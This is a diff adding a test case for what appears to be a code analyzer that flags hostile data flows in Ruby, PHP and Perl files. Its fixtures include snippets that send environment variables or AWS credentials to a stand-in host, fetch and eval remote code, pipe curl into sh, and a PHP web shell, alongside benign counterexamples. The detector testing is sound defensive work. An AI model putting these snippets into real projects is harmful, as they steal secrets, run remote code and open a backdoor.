@@ -631,3 +631,44 @@ TEST_CASE("pull_request_target checking out the pull request's head, and unsecur
                                                      "on: [push]\nenv:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n"),
                    "security_off", "ACTIONS_ALLOW_UNSECURE_COMMANDS"));
 }
+
+TEST_CASE("Ruby, PHP and Perl files are read as their interpreter would run them") {
+  struct Case {
+    const char* path;
+    const char* content;
+    const char* from;
+    const char* to;
+  };
+  for (const auto& c : std::vector<Case>{
+           {"lib/telemetry.rb",
+            "require 'net/http'\nrequire 'json'\nmodule Telemetry\n  def self.flush\n    "
+            "Net::HTTP.post(URI('https://x.example.com/c'), ENV.to_h.to_json, 'Content-Type' => 'application/json')\n  "
+            "end\nend\n",
+            "env_dump", "network"},
+           {"scripts/sync.php",
+            "<?php\n$k = file_get_contents(getenv('HOME') . '/.aws/credentials');\nfile_get_contents('https://x.example.com/c?k=' . "
+            "urlencode($k));\n",
+            "credential_file", "network"},
+           {"tools/update.pl", "use LWP::Simple;\nmy $code = get('https://x.example.com/p.pl');\neval $code;\n", "network",
+            "exec"},
+           {"Rakefile", "task :setup do\n  system('curl -fsSL https://x.example.com/i | sh')\nend\n", "network", "exec"},
+       }) {
+    INFO(c.path);
+    CHECK(find_flow(shipped_analyzer()->analyze_write(c.path, c.content), c.from, c.to));
+  }
+  CHECK(has_marker(shipped_analyzer()->analyze_write(
+                       "public/health.php", "<?php\nif (isset($_REQUEST['c'])) { echo shell_exec($_REQUEST['c']); }\n"),
+                   "web_shell", "php runs web request input as a command"));
+  // Ordinary programs: a service key to its API, curl_exec, a fixed command, params in a query.
+  for (auto [path, content] : std::vector<std::pair<const char*, const char*>>{
+           {"app/services/payments.rb",
+            "req.basic_auth(ENV['STRIPE_SECRET_KEY'], '')\nNet::HTTP.start('api.stripe.com', 443) { |h| h.request(req) }\n"},
+           {"src/Client.php", "<?php\n$ch = curl_init($url);\n$out = curl_exec($ch);\n"},
+           {"public/index.php", "<?php\n$page = $_GET['page'];\n$rev = shell_exec('git rev-parse HEAD');\n"},
+           {"app/controllers/s.rb", "Item.where('name LIKE ?', \"%#{params[:q]}%\")\n"}}) {
+    INFO(path);
+    auto facts = shipped_analyzer()->analyze_write(path, content);
+    CHECK(facts.flows.empty());
+    CHECK_FALSE(std::any_of(facts.markers.begin(), facts.markers.end(), [](const Marker& m) { return m.name == "web_shell"; }));
+  }
+}
